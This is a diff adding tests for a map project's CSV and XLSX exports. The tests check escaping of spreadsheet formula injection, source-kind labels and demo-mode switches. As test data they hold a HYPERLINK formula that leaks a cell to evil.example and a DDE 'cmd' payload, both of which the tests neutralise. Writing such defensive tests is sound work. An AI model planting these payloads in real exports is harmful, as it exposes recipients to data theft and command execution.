@@ -194,3 +194,50 @@ def test_html_declares_its_title_and_language(inputs, lang, tag):
     assert re.search(r"<html[^>]*\slang=['\"]" + re.escape(tag) + "['\"]", html), html[:200]
     title = re.search(r"<title>([^<]*)</title>", html)
     assert title and title.group(1) == escape(export.export_view(inputs, state.with_(basemap="none"), DAY).title)
+
+
+# --- spreadsheet safety, source kinds and the demo switch in the data exports ---------------------
+
+INJECT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def injected_inputs(inputs: MapInputs) -> MapInputs:
+    ind = inputs.indicators.copy()
+    hit = (ind.region_code == "110108") & (ind.indicator == "resident_population_10k")
+    ind.loc[hit, "source_note"] = INJECT
+    ind.loc[hit & ind.primary, "region_name_zh"] = "+cmd|' /C calc'!A0"
+    return MapInputs(inputs.districts, inputs.zones, inputs.regions, inputs.designations, ind)
+
+
+def test_csv_neutralises_formula_looking_text(inputs):
+    raw = export.render_csv(injected_inputs(inputs), OFFICIAL, DAY).decode("utf-8-sig")
+    table = pd.read_csv(io.StringIO(raw), dtype=str, keep_default_na=False)
+    notes = table.set_index("code").source_note
+    assert notes["110108"] == "'" + INJECT
+    for col in table.columns:  # no text cell starts with a formula character
+        assert not table[col].str.match(r"^[=+\-@\t\r]").any(), col
+
+
+def test_xlsx_has_no_formula_cells(inputs):
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(export.render_xlsx(injected_inputs(inputs), OFFICIAL, DAY)))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert INJECT in {c.value for c in cells}  # kept as text, not dropped
+
+
+def test_data_table_says_the_kind_of_each_source(inputs):
+    table = export.data_table(inputs, OFFICIAL, DAY)
+    assert set(table.source_kind) <= {"government", "official_media", "repost", "other"}
+    assert (table.source_kind_label == "由官方数据推算 · 转载来源").all()  # census via 北京青年报 page
+    demo = export.data_table(inputs, DEMO, DAY)
+    assert set(demo.source_kind) == {"generated"}
+
+
+def test_demo_off_exports_no_demo_value(inputs):
+    table = export.data_table(inputs, DEMO.with_(demo=False), DAY)
+    assert table.value.isna().all() and set(table.status) == {"none"}
+    assert set(table.status_label) == {"暂无官方数据"} and set(table.watermark) == {""}
+    raw = export.render_csv(inputs, DEMO.with_(demo=False), DAY).decode("utf-8-sig")
+    assert "demo:" not in raw and "DEMO" not in raw
